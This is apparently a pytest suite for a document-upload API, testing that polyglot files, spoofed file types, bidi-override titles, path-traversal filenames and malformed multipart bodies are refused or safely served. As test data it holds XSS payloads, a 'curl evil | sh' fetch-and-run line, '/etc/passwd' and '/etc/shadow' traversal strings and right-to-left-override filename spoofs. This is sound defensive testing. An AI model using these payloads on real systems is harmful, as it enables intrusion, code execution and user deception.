"""Hostile uploads: polyglots, lying first bytes, hostile titles and filenames, broken multipart, huge headers.

Every refused upload gets the contract's status and code (API.md "Documents" and "Conventions") and leaves
nothing behind: no document row, no segment, no `document.create` event. Decisions (README "Tests"):

- A PDF+HTML polyglot that libmagic calls a PDF is accepted as a PDF (it is one), and only ever served back as
  `application/pdf`, `Content-Disposition: attachment`, `X-Content-Type-Options: nosniff` and
  `Content-Security-Policy: default-src 'none'; sandbox`. HTML first, PDF later is HTML: 415.
- Titles are one line of at most 200 characters. Control characters (C0, C1, line and paragraph separators) and
  the bidirectional embeddings, overrides and isolates U+202A-U+202E, U+2066-U+2069 are refused with 422
  `validation_failed` (field `title`), never stripped: what is stored is what the caller sent.
- The filename is never stored, used for a path or echoed: downloads say `attachment` without a name. A part
  header line over aiohttp's 8 KiB (a 10,000-character filename) is a malformed body: 400 `invalid_request`.
- A refused upload by a caller who may upload writes no audit event (nothing of the client was read or
  written); a caller the policy denies gets 404/403 and a `deny` event, as for every other denial.
"""
from __future__ import annotations

import asyncio
import io
import json
import zipfile

import pytest

from service.sniff import sniff
from tests import files

BOUNDARY = "hostile-boundary-7f3a"
METADATA = {"category": "assessment", "title": "Bedömning vecka 48"}
POLYGLOT = (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n<html><body><script>alert(document.cookie)</script></body></html>\n"
            b"1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
HTML_THEN_PDF = b"<!DOCTYPE html><html><script>alert(1)</script></html>\n%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n%%EOF\n"
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
ARABIC = "\u0645\u0630\u0643\u0631\u0629 \u200f25/11"
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(200)
PE = b"MZ\x90\x00\x03" + bytes(58) + b"\x80\x00\x00\x00" + bytes(200)


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.sh", "#!/bin/sh\n")
    return buffer.getvalue()


def part(name: str | None, body: bytes, *, filename: str | bytes | None = None, content_type: str | None = None,
         extra: tuple[bytes, ...] = ()) -> bytes:
    headers = []
    if name is not None:
        disposition = f'form-data; name="{name}"'.encode()
        if filename is not None:
            disposition += b'; filename="' + (filename if isinstance(filename, bytes) else filename.encode()) + b'"'
        headers.append(b"Content-Disposition: " + disposition)
    if content_type is not None:
        headers.append(b"Content-Type: " + content_type.encode())
    headers.extend(extra)
    return b"".join(header + b"\r\n" for header in headers) + b"\r\n" + body


def multipart(*parts: bytes, boundary: str = BOUNDARY, close: bool = True) -> bytes:
    body = b"".join(b"--" + boundary.encode() + b"\r\n" + p + b"\r\n" for p in parts)
    return body + (b"--" + boundary.encode() + b"--\r\n" if close else b"")


def metadata_part(metadata: object = None, *, raw: bytes | None = None) -> bytes:
    body = raw if raw is not None else json.dumps(metadata if metadata is not None else METADATA).encode()
    return part("metadata", body, content_type="application/json")


def file_part(content: bytes, content_type: str = "application/pdf", filename: str | bytes = "a.pdf") -> bytes:
    return part("file", content, filename=filename, content_type=content_type)


@pytest.fixture
async def world(api):
    await api.unit("malmo-iof", organisation="malmo-stad", domain="social")
    await api.unit("malmo-ekonomi", organisation="malmo-stad", domain="social")
    staff = api.staff("malmo-iof")
    client = await api.register(staff)
    await api.relation(staff, client["id"])
    return {"staff": staff, "stranger": api.staff("malmo-ekonomi"), "client": client["id"],
            "path": f"/v1/clients/{client['id']}/documents"}


async def post(client, world, body: bytes, *, headers: dict | None = None, boundary: str | None = BOUNDARY):
    content_type = "multipart/form-data" + (f"; boundary={boundary}" if boundary is not None else "")
    return await client.post(world["path"], data=body,
                             headers={**world["staff"], "Content-Type": content_type, **(headers or {})})


async def problem(response) -> dict:
    assert response.headers["Content-Type"].startswith("application/problem+json")
    return await response.json()


async def assert_nothing_left(db) -> None:
    assert await db.fetchval("SELECT count(*) FROM documents") == 0
    assert await db.fetchval("SELECT count(*) FROM document_segments") == 0
    assert await db.fetchval("SELECT count(*) FROM audit_events WHERE action = 'document.create'") == 0


# --- polyglots and first bytes that lie

async def test_a_pdf_that_is_also_html_is_only_ever_a_pdf_attachment(client, world, db):
    assert sniff(POLYGLOT) == "application/pdf"  # what libmagic sees: the premise of the decision
    response = await post(client, world, multipart(metadata_part(), file_part(POLYGLOT, "application/pdf")))
    assert response.status == 201, await response.text()
    document = await response.json()
    assert document["content_type"] == "application/pdf"
    download = await client.get(f"/v1/documents/{document['id']}/content", headers=world["staff"])
    assert download.status == 200 and await download.read() == POLYGLOT
    assert download.headers["Content-Type"] == "application/pdf"
    assert download.headers["Content-Disposition"] == "attachment"
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    assert download.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    # Declared as what it also is, HTML: the declaration is refused, nothing more is stored.
    response = await post(client, world, multipart(metadata_part(), file_part(POLYGLOT, "text/html")))
    assert (response.status, (await problem(response))["code"]) == (415, "content_type_mismatch")
    assert await db.fetchval("SELECT count(*) FROM documents") == 1


@pytest.mark.parametrize("content,declared,status,code", [
    (HTML_THEN_PDF, "application/pdf", 415, "unsupported_media_type"),  # HTML first is HTML
    (files.png(), "application/pdf", 415, "content_type_mismatch"),
    (ELF, "image/png", 415, "unsupported_media_type"),
    (PE, "application/pdf", 415, "unsupported_media_type"),
    (_zip(), "image/jpeg", 415, "unsupported_media_type"),
    (b"<html><body><script>alert(1)</script></body></html>", "text/plain", 415, "unsupported_media_type"),
    (b"Anteckning <script>alert(1)</script>\n", "text/plain", 415, "unsupported_media_type"),  # libmagic: HTML
    (SVG, "image/svg+xml", 415, "unsupported_media_type"),
    (SVG, "image/png", 415, "unsupported_media_type"),
    (b"#!/bin/sh\ncurl evil | sh\n", "text/plain", 415, "unsupported_media_type"),
    (b"", "application/pdf", 400, "empty_file"),
    (b"", "text/html", 400, "empty_file"),  # empty is checked before sniffing
], ids=["html-then-pdf", "png-as-pdf", "elf-as-png", "pe-as-pdf", "zip-as-jpeg", "html-as-text", "script-in-text",
        "svg", "svg-as-png", "shell-as-text", "empty", "empty-as-html"])
async def test_first_bytes_that_lie_are_refused_and_leave_nothing(client, world, db, content, declared, status, code):
    filename = "<script>alert(1)</script>.pdf"
    response = await post(client, world, multipart(metadata_part(), file_part(content, declared, filename)))
    body = await problem(response)
    assert (response.status, body["code"]) == (status, code), body
    assert "<script>" not in await response.text()  # neither the filename nor the content is echoed
    await assert_nothing_left(db)


# --- titles

@pytest.mark.parametrize("title", [
    "x" * 201, "", "   ", "Samtal\x00", "Samtal\x1b[31m", "Sam\ttal", "Rad ett\nrad två", "Samtal\r", "Samtal\x7f",
    "Samtal\x85", "Samtal\u2028", "Samtal\u2029",
    *[f"Beslut{chr(c)}FDP.exe" for c in (0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069)],
], ids=["201-chars", "empty", "blank", "nul", "escape", "tab", "newline", "cr", "del", "nel", "line-sep", "para-sep",
        "lre", "rle", "pdf", "lro", "rlo", "lri", "rli", "fsi", "pdi"])
async def test_titles_that_are_too_long_or_could_disguise_themselves_are_refused(client, world, db, title):
    response = await post(client, world, multipart(metadata_part({"category": "assessment", "title": title}),
                                                   file_part(files.pdf())))
    body = await problem(response)
    assert (response.status, body["code"]) == (422, "validation_failed"), body
    assert [error["field"] for error in body["errors"]] == ["title"]
    await assert_nothing_left(db)


@pytest.mark.parametrize("title,stored", [
    ("x" * 200, "x" * 200),
    ("  Samtal 25/11  ", "Samtal 25/11"),  # surrounding blanks are stripped, as before
    (ARABIC, ARABIC),  # Arabic with a right-to-left mark (U+200F stays allowed)
    ("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),  # text, shown as text (JSON, escaped UI)
])
async def test_titles_within_the_rules_are_stored_as_sent(client, world, title, stored):
    response = await post(client, world, multipart(metadata_part({"category": "assessment", "title": title}),
                                                   file_part(files.pdf())))
    assert response.status == 201, await response.text()
    document = await response.json()
    assert document["title"] == stored
    read = await client.get(f"/v1/documents/{document['id']}", headers=world["staff"])
    assert (await read.json())["title"] == stored


# --- filenames

@pytest.mark.parametrize("filename", [
    "../../etc/passwd", "..\\..\\win.ini", "/etc/shadow", "C:\\Windows\\System32\\cmd.exe", "anteckning\u202efdp.exe",
    "<script>alert(1)</script>.txt", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "a" * 1000 + ".txt",
], ids=["unix-traversal", "windows-traversal", "absolute", "windows-absolute", "rlo", "markup", "encoded", "1000-chars"])
async def test_a_filename_is_never_used_stored_or_echoed(client, world, db, filename):
    content = files.text("Journalanteckning.\n")
    response = await post(client, world, multipart(metadata_part(), file_part(content, "text/plain", filename)))
    assert response.status == 201, await response.text()
    document = await response.json()
    download = await client.get(f"/v1/documents/{document['id']}/content", headers=world["staff"])
    assert await download.read() == content
    assert download.headers["Content-Disposition"] == "attachment"  # no name of the caller's choosing
    needles = {filename, "passwd", "win.ini", "shadow", "cmd.exe", "<script>", "fdp.exe", "a" * 100}
    echoed = await response.text() + json.dumps(dict(download.headers))
    stored = json.dumps([dict(row) for row in await db.fetch("SELECT * FROM documents")], default=str)
    stored += json.dumps([dict(row) for row in await db.fetch("SELECT * FROM audit_events")], default=str)
    for needle in needles:
        assert needle not in echoed and needle not in stored, needle


async def test_a_ten_thousand_character_filename_is_a_malformed_body(client, world, db):
    response = await post(client, world, multipart(metadata_part(), file_part(files.pdf(), filename="a" * 10_000 + ".pdf")))
    body = await problem(response)
    assert (response.status, body["code"]) == (400, "invalid_request")
    assert "aaaaaaaa" not in body["detail"]
    await assert_nothing_left(db)


# --- the shape of the multipart body

META, FILE = metadata_part(), file_part(files.pdf())


@pytest.mark.parametrize("body,boundary,status,code", [
    (multipart(FILE, META), BOUNDARY, 400, "invalid_request"),  # file before metadata
    (multipart(META), BOUNDARY, 400, "invalid_request"),  # no file
    (multipart(FILE), BOUNDARY, 400, "invalid_request"),  # no metadata
    (b"--" + BOUNDARY.encode() + b"--\r\n", BOUNDARY, 400, "invalid_request"),  # no parts at all
    (b"", BOUNDARY, 400, "invalid_request"),  # no body at all
    (multipart(META, META, FILE), BOUNDARY, 400, "invalid_request"),  # metadata twice
    (multipart(META, FILE, FILE), BOUNDARY, 400, "invalid_request"),  # file twice (refused after streaming it)
    (multipart(META, FILE, part("note", b"x")), BOUNDARY, 400, "invalid_request"),  # anything after the file
    (multipart(part(None, b"{}"), FILE), BOUNDARY, 400, "invalid_request"),  # a part without a name
    (multipart(part("metadata", b"--inner--", content_type="multipart/mixed; boundary=inner"), FILE), BOUNDARY,
     400, "invalid_request"),  # a nested multipart as metadata
    (multipart(META, FILE), "another-boundary", 400, "invalid_request"),  # the body's boundary is not the header's
    (multipart(META, FILE), None, 400, "invalid_request"),  # no boundary in the header
    (multipart(META, FILE, close=False), BOUNDARY, 400, "invalid_request"),  # cut before the closing boundary
    (b"this is not multipart at all", BOUNDARY, 400, "invalid_request"),
    (multipart(part("metadata", b"x", content_type="application/json", extra=(b"X-Padding: " + b"a" * 65536,)), FILE),
     BOUNDARY, 400, "invalid_request"),  # a 64 KiB part header line
    (multipart(part("file", files.pdf(), filename=b"\xff\x00.pdf", content_type="application/pdf")), BOUNDARY, 400,
     "invalid_request"),  # NUL in a part header
    (multipart(metadata_part(raw='{"category": "assessment", "title": "Bedömning"}'.encode("latin-1")), FILE), BOUNDARY,
     400, "invalid_json"),  # not UTF-8
    (multipart(metadata_part(raw=b'{"category": "assessment", "title": "\xff\xfe"}'), FILE), BOUNDARY, 400,
     "invalid_json"),
    (multipart(metadata_part(raw=b'{"category": "assessment", "title": "\\ud800"}'), FILE), BOUNDARY, 400,
     "invalid_json"),  # a lone surrogate
    (multipart(metadata_part(raw=b'{"category": "assessment", "title": "x"'), FILE), BOUNDARY, 400, "invalid_json"),
    (multipart(metadata_part(raw=b"[]"), FILE), BOUNDARY, 422, "validation_failed"),
    (multipart(metadata_part({**METADATA, "filename": "../../etc/passwd"}), FILE), BOUNDARY, 400, "invalid_request"),
    (multipart(metadata_part(raw=b" " * (65 * 1024)), FILE), BOUNDARY, 400, "invalid_request"),  # metadata over 64 KiB
], ids=["file-first", "no-file", "no-metadata", "no-parts", "empty-body", "metadata-twice", "file-twice", "third-part",
        "unnamed-part", "nested-multipart", "wrong-boundary", "no-boundary", "unterminated", "not-multipart",
        "64k-part-header", "nul-in-part-header", "latin-1-metadata", "invalid-utf8-metadata", "lone-surrogate",
        "truncated-json", "json-array", "unknown-field", "huge-metadata"])
async def test_malformed_multipart_gets_its_code_and_leaves_nothing(client, world, db, body, boundary, status, code):
    response = await post(client, world, body, boundary=boundary)
    answer = await problem(response)
    assert (response.status, answer["code"]) == (status, code), answer
    assert response.headers["X-Request-Id"] == answer["request_id"]
    await assert_nothing_left(db)


async def test_a_body_whose_content_encoding_does_not_decode_is_a_400(client, world, db):
    response = await post(client, world, b"this is not gzip", headers={"Content-Encoding": "gzip", "Connection": "close"})
    assert (response.status, (await problem(response))["code"]) == (400, "invalid_request")
    await assert_nothing_left(db)


async def test_a_64_kib_request_header_is_a_400_and_the_server_carries_on(client, world, db):
    """aiohttp refuses request header lines over 8 KiB before the app sees the request (its own plain-text 400)."""
    body = multipart(META, FILE)
    head = (f"POST {world['path']} HTTP/1.1\r\nHost: localhost\r\nAuthorization: {world['staff']['Authorization']}\r\n"
            f"Content-Type: multipart/form-data; boundary={BOUNDARY}\r\nContent-Length: {len(body)}\r\n"
            f"X-Padding: {'a' * 65536}\r\nConnection: close\r\n\r\n").encode()
    reader, writer = await asyncio.open_connection(client.server.host, client.server.port)
    try:
        writer.write(head + body)
        await writer.drain()
        answer = await asyncio.wait_for(reader.read(), 10)
    finally:
        writer.close()
    status_line = answer.split(b"\r\n", 1)[0]
    assert status_line.split(b" ")[1] == b"400", status_line
    await assert_nothing_left(db)
    healthy = await client.get("/healthz")
    assert healthy.status == 200


# --- who may try: denials are audited, with nothing stored

async def test_a_hostile_upload_by_a_caller_the_policy_denies_is_audited_and_leaves_nothing(client, world, db, tokens):
    body = multipart(metadata_part({"category": "assessment", "title": "Beslut\u202eFDP.exe"}),
                     file_part(POLYGLOT, "application/pdf", "../../etc/passwd"))
    stranger = await client.post(world["path"], data=body,
                                 headers={**world["stranger"], "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"})
    assert (stranger.status, (await problem(stranger))["code"]) == (422, "validation_failed")  # parsed before deciding
    ok_title = multipart(metadata_part(), file_part(POLYGLOT, "application/pdf", "../../etc/passwd"))
    stranger = await client.post(world["path"], data=ok_title,
                                 headers={**world["stranger"], "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"})
    assert (stranger.status, (await problem(stranger))["code"]) == (404, "not_found")
    auditor = await client.post(world["path"], data=ok_title,
                                headers={**tokens.auth(sub="auditor-1", roles=["auditor"]),
                                         "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"})
    assert (auditor.status, (await problem(auditor))["code"]) == (403, "forbidden_role")
    assert await db.fetchval("SELECT count(*) FROM documents") == 0
    assert await db.fetchval("SELECT count(*) FROM document_segments") == 0
    events = await db.fetch("SELECT actor_sub, decision, reason_codes FROM audit_events "
                            "WHERE action = 'document.create' ORDER BY seq")
    assert [(e["actor_sub"], e["decision"], list(e["reason_codes"])) for e in events] == [
        ("staff-of-malmo-ekonomi", "deny", ["no_relation"]),
        ("auditor-1", "deny", ["forbidden_role"]),
    ]
